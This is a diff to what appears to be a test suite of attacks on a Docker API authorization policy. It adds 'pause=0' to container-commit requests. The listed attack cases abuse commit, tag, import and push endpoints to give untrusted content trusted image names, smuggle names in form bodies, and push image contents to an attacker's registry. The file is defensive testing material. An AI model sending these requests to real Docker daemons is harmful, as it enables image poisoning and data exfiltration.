@@ -8,7 +8,7 @@ TITLE = "Images and builds"
 
 IMAGES = "images" # a policy that trusts busybox:1 and trusted:*
 DOCKERFILE = "FROM busybox:1\nRUN readlink /proc/self/ns/net; cat /proc/self/cgroup; cat /etc/hosts\n"
-EVIL = post("/v1.41/commit?container=web&repo=evil&tag=$NAME", "")
+EVIL = post("/v1.41/commit?pause=0&container=web&repo=evil&tag=$NAME", "")
 
 
 def context(text=DOCKERFILE):
@@ -47,7 +47,7 @@ ATTACKS = [
            (post("/v1.41/images/evil:$NAME/tag?repo=trusted:$NAME"),), exists("images", "trusted:$NAME"), "image-source",
            policy=IMAGES, setup=(EVIL,)),
     attack("commit-trusted", "a trusted name for what a container holds",
-           (post("/v1.41/commit?container=web&repo=trusted&tag=$NAME", ""),), exists("images", "trusted:$NAME"),
+           (post("/v1.41/commit?pause=0&container=web&repo=trusted&tag=$NAME", ""),), exists("images", "trusted:$NAME"),
            "image-source", policy=IMAGES),
     attack("import-trusted", "a trusted name for a file system of the attacker's",
            (post("/v1.41/images/create?fromSrc=-&repo=trusted&tag=$NAME", context(), (TAR,)),),
@@ -80,7 +80,7 @@ ATTACKS = [
            (post("/v1.41/images/evil:$NAME/tag", "repo=trusted&tag=$NAME", (FORM,)),), exists("images", "trusted:$NAME"),
            "content-type", setup=(EVIL,)),
     attack("commit-in-a-hidden-form", "a name for an image that stands in the body alone",
-           (post("/v1.41/commit?container=web", "repo=hidden&tag=$NAME", (FORM, JSON)),),
+           (post("/v1.41/commit?pause=0&container=web", "repo=hidden&tag=$NAME", (FORM, JSON)),),
            exists("images", "hidden:$NAME"), "malformed", engines=()),
     attack("push-elsewhere", "what is in an image, on a registry of the attacker's",
            (Step("POST", "/v1.41/images/$WEBSERVER/pushed-$NAME/push?tag=1", headers=(EMPTY, ("X-Registry-Auth", "e30="))),),
